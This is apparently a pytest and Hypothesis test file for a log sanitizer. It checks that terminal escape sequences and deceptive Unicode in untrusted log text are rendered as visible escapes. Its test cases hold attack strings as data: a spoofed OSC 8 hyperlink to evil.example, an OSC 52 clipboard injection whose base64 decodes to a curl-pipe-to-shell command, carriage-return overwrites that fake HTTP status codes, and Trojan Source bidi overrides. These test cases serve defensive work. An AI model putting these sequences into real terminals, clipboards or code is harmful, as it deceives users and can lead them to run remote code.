"""sanitize(): untrusted log text can never drive the terminal, and the reader still sees the bytes."""

from __future__ import annotations

import sys
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apilogs.render.sanitize import NEWLINE_MARK, UNSAFE_RANGES, safe_for_encoding, sanitize

UNSAFE_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}
# What the brief names explicitly, written out independently of the module's table.
NAMED_UNSAFE = (
    {chr(c) for c in range(0x20)} - {"\t", "\n"}
    | {"\x7f"}
    | {chr(c) for c in range(0x80, 0xA0)}
    | {chr(c) for c in range(0x202A, 0x202F)}
    | {chr(c) for c in range(0x2066, 0x206A)}
    | {"\u200e", "\u200f", "\u061c"}
)


def is_unsafe(ch: str, *, keep_newlines: bool = True) -> bool:
    """The independent oracle: Unicode categories plus the named set, minus what is kept."""
    if ch == "\t" or (ch == "\n" and keep_newlines):
        return False
    return ch == "\n" or unicodedata.category(ch) in UNSAFE_CATEGORIES or ch in NAMED_UNSAFE


def unsafe_in(text: str, *, keep_newlines: bool = True) -> list[str]:
    return [ch for ch in text if is_unsafe(ch, keep_newlines=keep_newlines)]


# --- the attacks, one by one ---


@pytest.mark.parametrize(
    ("attack", "expected"),
    [
        pytest.param("\x1b[31mERROR\x1b[0m", r"\x1b[31mERROR\x1b[0m", id="sgr-colour"),
        pytest.param("\x1b[2J\x1b[H", r"\x1b[2J\x1b[H", id="clear-screen"),
        pytest.param(
            "\x1b]8;;https://evil.example/\x1b\\https://aws.amazon.com\x1b]8;;\x1b\\",
            # ST is ESC + backslash: the ESC becomes \x1b, the backslash stays.
            "\\x1b]8;;https://evil.example/\\x1b\\https://aws.amazon.com\\x1b]8;;\\x1b\\",
            id="osc8-hyperlink",
        ),
        pytest.param(
            "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
            r"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
            id="osc52-clipboard",
        ),
        pytest.param("\x1b]0;pwned\x07", r"\x1b]0;pwned\x07", id="osc0-window-title"),
        pytest.param("ding\x07", r"ding\x07", id="bel"),
        pytest.param("status: 500\rstatus: 200", r"status: 500\rstatus: 200", id="cr-overwrite"),
        pytest.param("500\b\b\b200", r"500\x08\x08\x08200", id="backspace"),
        pytest.param("\x9b31mred", r"\x9b31mred", id="c1-csi"),
        pytest.param("\x9d8;;x\x9c", r"\x9d8;;x\x9c", id="c1-osc-st"),
        pytest.param("a\x7fb", r"a\x7fb", id="del"),
        pytest.param("nul\x00byte", r"nul\x00byte", id="nul"),
        pytest.param("\x1bPq#0;2;0;0;0\x1b\\", "\\x1bPq#0;2;0;0;0\\x1b\\", id="dcs-sixel"),
        pytest.param(
            'if access_level != "user\u202e \u2066// check admin\u2069 \u2066":',
            r'if access_level != "user\u202e \u2066// check admin\u2069 \u2066":',
            id="trojan-source-bidi",
        ),
        pytest.param("abc\u202ddef\u202c", r"abc\u202ddef\u202c", id="lro-pdf"),
        pytest.param("\u200fRLM\u200eLRM\u061cALM", r"\u200fRLM\u200eLRM\u061cALM", id="marks"),
        pytest.param("req-\u200b42", r"req-\u200b42", id="zero-width-space"),
        pytest.param("\ufeffBOM", r"\ufeffBOM", id="bom"),
        pytest.param("pay\u00adpal", r"pay\xadpal", id="soft-hyphen"),
        pytest.param("ok\U000e0041\U000e0042", r"ok\U000e0041\U000e0042", id="tag-smuggling"),
        pytest.param(
            "line\u2028sep\u2029para", r"line\u2028sep\u2029para", id="unicode-separators"
        ),
        pytest.param("bad \udc80 bytes", r"bad \udc80 bytes", id="lone-surrogate"),
    ],
)
def test_attack_is_neutralised_and_visible(attack: str, expected: str) -> None:
    out = sanitize(attack)
    assert out == expected
    assert not unsafe_in(out)
    assert sanitize(attack, keep_newlines=False) == expected


def test_clean_text_is_returned_as_is() -> None:
    for text in ["", "GET /pets 200", "héllo wörld ✓ 日本語 🙂", "a\u00a0b (NBSP)", "e\u0301"]:
        assert sanitize(text) is text
        assert sanitize(text, keep_newlines=False) is text


def test_tab_is_kept() -> None:
    line = "[INFO]\t2024-01-01T00:00:00.000Z\tabc-123\thello"
    assert sanitize(line) is line
    assert sanitize(line, keep_newlines=False) is line


def test_newlines_kept_or_marked() -> None:
    text = "Traceback:\n  File x\nValueError"
    assert sanitize(text) is text
    assert (
        sanitize(text, keep_newlines=False)
        == f"Traceback:{NEWLINE_MARK}  File x{NEWLINE_MARK}ValueError"
    )


def test_crlf_is_one_line_break() -> None:
    assert sanitize("a\r\nb") == "a\nb"
    assert sanitize("a\r\nb", keep_newlines=False) == f"a{NEWLINE_MARK}b"
    # A CR that is not right before LF can overwrite: it stays visible.
    assert sanitize("a\rb\n\rc") == "a\\rb\n\\rc"
    assert sanitize("a\n\r", keep_newlines=False) == f"a{NEWLINE_MARK}\\r"
    assert sanitize("a\r\r\nb") == "a\\r\nb"


def test_mixed_newline_and_escape_in_one_line_mode() -> None:
    assert sanitize("x\x1b[1m\ny", keep_newlines=False) == f"x\\x1b[1m{NEWLINE_MARK}y"


def test_safe_non_printables_are_left_alone() -> None:
    # NBSP and friends are "Separator" (so isprintable() says no) but cannot move the cursor.
    for text in ["1\u00a0000", "wide\u3000space", "private \ue000 use", "thin\u2009space"]:
        assert sanitize(text) is text


# --- the table itself ---


def test_every_unsafe_category_is_covered() -> None:
    covered = {c for low, high in UNSAFE_RANGES for c in range(low, high + 1)}
    missing = [
        hex(c)
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) in UNSAFE_CATEGORIES and c not in covered
    ]
    assert not missing
    assert all(ord(ch) in covered for ch in NAMED_UNSAFE)


def test_every_unsafe_character_is_escaped_on_its_own() -> None:
    for low, high in UNSAFE_RANGES:
        for code in range(low, high + 1):
            ch = chr(code)
            # The fast path relies on this: isprintable() never lets an unsafe character by.
            assert not ch.isprintable(), hex(code)
            if ch in "\t\n":
                continue
            out = sanitize(f"a{ch}b")
            assert out.startswith("a\\") and out.endswith("b"), hex(code)
            assert not unsafe_in(out), hex(code)


# --- properties ---

ANY_CHAR = st.characters(exclude_categories=())  # surrogates included
UNSAFE_CHAR = st.sampled_from(
    sorted(NAMED_UNSAFE | {"\n", "\r", "\t", "\u2028", "\ufeff", "\udc80", "\U000e0041", "\\"})
)
TEXTS = st.text(st.one_of(ANY_CHAR, UNSAFE_CHAR, st.sampled_from("ab \r\n")), max_size=80)


@settings(max_examples=300, deadline=None)
@given(TEXTS, st.booleans())
def test_output_never_holds_an_unsafe_character(text: str, keep_newlines: bool) -> None:
    out = sanitize(text, keep_newlines=keep_newlines)
    assert not unsafe_in(out, keep_newlines=keep_newlines)
    if not keep_newlines:
        assert "\n" not in out and "\r" not in out
    # Encodable: no lone surrogate survives to crash a UTF-8 writer.
    out.encode("utf-8")


@settings(max_examples=300, deadline=None)
@given(TEXTS, st.booleans())
def test_sanitize_is_idempotent(text: str, keep_newlines: bool) -> None:
    once = sanitize(text, keep_newlines=keep_newlines)
    assert sanitize(once, keep_newlines=keep_newlines) == once


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_every_unsafe_character_leaves_a_visible_trace(text: str) -> None:
    # Each unsafe character (a CRLF pair counting once, as a line break) becomes one backslash
    # escape: none is silently dropped.
    out = sanitize(text)
    expected = text.count("\\") + len(unsafe_in(text.replace("\r\n", "\n")))
    assert out.count("\\") == expected


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp")), max_size=80))
def test_clean_text_passes_unchanged(text: str) -> None:
    assert sanitize(text) == text
    assert sanitize(text, keep_newlines=False) == text


# --- encodings ---


@pytest.mark.parametrize(
    ("text", "encoding", "expected"),
    [
        ("café", "ascii", "caf\\xe9"),
        ("café", "latin-1", "café"),
        ("5 €", "latin-1", "5 \\u20ac"),
        ("5 €", "cp1252", "5 €"),
        ("🙂 ok", "ascii", "\\U0001f642 ok"),
        ("日本", "cp437", "\\u65e5\\u672c"),
        ("plain", "ascii", "plain"),
        ("café ✓", "utf-8", "café ✓"),
        ("bad \udc80", "utf-8", "bad \\udc80"),
        ("café", "UTF8", "café"),
    ],
)
def test_safe_for_encoding(text: str, encoding: str, expected: str) -> None:
    assert safe_for_encoding(text, encoding) == expected


def test_safe_for_encoding_unknown_encoding() -> None:
    with pytest.raises(LookupError):
        safe_for_encoding("x", "no-such-codec")


@settings(max_examples=200, deadline=None)
@given(st.text(ANY_CHAR, max_size=40), st.sampled_from(["ascii", "latin-1", "cp437", "utf-8"]))
def test_safe_for_encoding_output_always_encodes(text: str, encoding: str) -> None:
    out = safe_for_encoding(sanitize(text), encoding)
    out.encode(encoding)  # must not raise
